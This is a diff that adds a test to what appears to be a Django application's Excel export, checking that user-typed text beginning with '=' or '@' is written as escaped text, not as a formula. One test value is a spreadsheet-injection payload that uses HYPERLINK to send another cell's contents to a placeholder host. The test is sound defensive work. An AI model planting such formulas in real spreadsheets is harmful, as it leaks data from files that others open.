@@ -114,6 +114,22 @@ def test_export_states_the_filters_and_every_field(
     assert entry.actor == handler and entry.after["rows"] == 1
 
 
+def test_export_writes_typed_text_that_looks_like_a_formula_as_text(
+    client: Client, frozen: object, staff: dict[str, User]
+) -> None:
+    hostile = '=HYPERLINK("http://example.invalid/?"&B7,"查看")'
+    make_application(
+        staff[Role.REGISTRAR], received_on=D(2024, 8, 1), applicant_name="@SUM(1)", content=hostile
+    )
+    _as(client, staff[Role.HANDLER])
+    ws = load_workbook(io.BytesIO(client.get(reverse("applications:export")).content)).active
+    rows = [[c for c in row] for row in ws.iter_rows()]
+    record = {h.value: c for h, c in zip(rows[5], rows[6], strict=True)}
+    assert (record["申请内容"].value, record["申请内容"].data_type) == ("'" + hostile, "s")
+    assert record["申请人姓名或名称"].value == "'@SUM(1)"
+    assert rows[3][1].value == 1  # the count stays a number
+
+
 def test_export_masks_personal_data_for_a_supervisor(
     client: Client, apps: list[Application], supervisor: User
 ) -> None:
